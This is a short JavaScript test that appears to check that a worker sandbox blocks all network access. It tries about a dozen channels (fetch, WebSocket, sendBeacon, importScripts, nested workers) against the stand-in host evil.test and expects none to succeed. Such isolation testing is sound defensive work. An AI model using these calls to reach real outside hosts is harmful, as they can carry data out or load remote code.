// In a worker: the network, by every way that workers have.
// includes: out: none
// ends: quiet

if (typeof postMessage === 'function') {
  const out = [];
  const attempt = async (name, act) => {
    try {
      await act();
      out.push(name);
    } catch {}
  };
  await attempt('fetch', async () => {
    const response = await fetch('http://evil.test/');
    await response.text();
  });
  await attempt('fetch of the site', () => fetch('SITE'));
  await attempt('no-cors', () => fetch('http://evil.test/', { mode: 'no-cors' }));
  await attempt('WebSocket', () => new WebSocket('ws://evil.test/'));
  await attempt('EventSource', () => new EventSource('http://evil.test/'));
  await attempt('XMLHttpRequest', () => new XMLHttpRequest().open('GET', 'http://evil.test/', false));
  await attempt('WebTransport', () => new WebTransport('https://evil.test/'));
  await attempt('sendBeacon', () => navigator.sendBeacon('http://evil.test/'));
  await attempt('importScripts', () => importScripts('http://evil.test/'));
  await attempt('caches', () => caches.open('x'));
  await attempt('SharedWorker', () => new SharedWorker('http://evil.test/'));
  await attempt('a native Worker', () => new (Object.getPrototypeOf(Worker.prototype).constructor.Worker)('http://evil.test/'));
  console.log('out:', out.length === 0 ? 'none' : `LEAK ${out}`);
} else new Worker(import.meta.url, { type: 'module' });
